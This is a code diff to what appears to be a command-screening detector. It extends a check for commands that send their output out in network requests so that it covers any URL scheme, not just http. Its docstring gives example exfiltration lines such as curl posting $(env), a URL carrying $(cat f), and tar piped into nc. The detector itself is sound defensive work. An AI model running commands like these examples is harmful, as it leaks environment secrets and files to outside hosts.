@@ -368,6 +368,11 @@ _DATA_FLAGS = ("-d", "--data", "--data-binary", "--data-raw", "--data-urlencode"
                "--header", "--post-data", "--body-data")
 
 
+#: a URL a request goes to, whatever its scheme (gopher://, dict://, ftp://, smtp:// carry data as
+#: http:// does); file:// reads a local file
+_REQUEST_URL = Lazy(r"(?!file:)[A-Za-z][A-Za-z0-9+.-]*://", needs=("://",))
+
+
 def _sent_output(command: Command) -> str | None:
     """A command's output sent in a request (``curl -d "$(env)" URL``, ``curl
     "https://x/?d=$(cat f)"``), or a pipe into a raw socket (``tar c . | nc host 9000``)."""
@@ -375,7 +380,7 @@ def _sent_output(command: Command) -> str | None:
         words = command.words[1:]
         for k, word in enumerate(words):
             prev = words[k - 1].text if k else ""
-            if ("$(" in word.text or "`" in word.text) and (prev in _DATA_FLAGS or re.match(r"https?://", word.text)
+            if ("$(" in word.text or "`" in word.text) and (prev in _DATA_FLAGS or _REQUEST_URL.match(word.text)
                                                            or word.text.startswith(_DATA_FLAGS)):
                 return f"the output of {word.text[:60]}"
         if command.feeders and any(a in ("@-", "-d@-", "--data-binary=@-") for a in command.args) or \
